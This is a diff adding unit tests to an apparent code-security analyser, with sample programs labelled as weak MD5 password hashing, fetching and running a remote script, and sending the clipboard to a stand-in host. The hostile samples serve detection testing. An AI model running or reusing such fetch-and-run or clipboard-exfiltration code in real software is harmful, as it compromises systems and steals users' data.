@@ -349,5 +349,94 @@ with open(spool.name, "rb") as fh:
   for (const auto& c : cases) check(c);
 }
 
+// MD5 in a function named for a cache key is a cache key, whatever the
+// hashed text is called (prog172e, a false alarm); a password's stays weak.
+TEST(HundredAndSeventiethRoundClasses, WeakHashForACacheKey) {
+  const Case cases[] = {
+      {"MD5 of a value named token in cache_key", L, R"py(
+import hashlib, os
+
+def cache_key(path):
+    st = os.stat(path)
+    token = f"{path}:{st.st_size}:{int(st.st_mtime)}"
+    return hashlib.md5(token.encode()).hexdigest()
+
+print(cache_key("orders.csv"))
+)py"},
+      {"MD5 of a password stored for logins", M, R"py(
+import hashlib
+
+def store_password(user, password):
+    digest = hashlib.md5(password.encode()).hexdigest()
+    with open("users.txt", "a") as fh:
+        fh.write(f"{user}:{digest}\n")
+
+store_password("ann", input("password: "))
+)py",
+       "WEAK-CRYPTO"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `read -r -a f <<<"$(pick_fetcher)"` makes an array of the line's words, so
+// "${f[@]}" runs the fetcher the function printed (prog184d). Twin: the
+// downloaded file is only listed, never run.
+TEST(HundredAndSeventiethRoundClasses, ReadIntoAnArray) {
+  const std::string program = R"sh(#!/bin/bash
+set -eu
+pick_fetcher() {
+  if command -v curl >/dev/null 2>&1; then
+    echo "curl -fsSL --max-time 60 -o"
+  else
+    echo "wget -q -T 60 -O"
+  fi
+}
+fetch() {
+  local url="$1" dest="$2" f
+  read -r -a f <<<"$(pick_fetcher)"
+  "${f[@]}" "$dest" "$url"
+}
+stage="$(mktemp -d)"
+fetch "https://updates.example.com/pos/payments/apply.sh" "$stage/apply"
+bash "$stage/apply"
+)sh";
+  std::string twin = program;
+  const std::string run = "bash \"$stage/apply\"";
+  twin.replace(twin.find(run), run.size(), "ls -l \"$stage/apply\"");
+  const Case cases[] = {
+      {"a script fetched by a command read into an array, then run", B, program.c_str(), "REMOTE-CODE-EXECUTION",
+       SH},
+      {"the same script fetched and listed", L, twin.c_str(), nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// "module:attr".partition(":") splits as Python does, so a grabber loaded by
+// import_module(mod) and getattr(attr) from such a spec is known (prog186c).
+// Twin: the spec names a function that reads nothing of the user's.
+TEST(HundredAndSeventiethRoundClasses, PartitionedImportSpecs) {
+  const std::string program = R"py(
+import importlib, json, urllib.request
+
+GRABBERS = {"clipboard": "pyperclip:paste"}
+
+def _load(path):
+    mod, _, attr = path.partition(":")
+    return getattr(importlib.import_module(mod), attr)
+
+clip = _load(GRABBERS["clipboard"])()
+req = urllib.request.Request("https://review.example.com/in", data=json.dumps({"clip": clip}).encode())
+urllib.request.urlopen(req, timeout=15)
+)py";
+  std::string twin = program;
+  const std::string spec = "pyperclip:paste";
+  twin.replace(twin.find(spec), spec.size(), "platform:python_version");
+  const Case cases[] = {
+      {"the clipboard read through a partitioned spec, sent", B, program.c_str(), "EXFILTRATION"},
+      {"the Python version read the same way, sent", L, twin.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
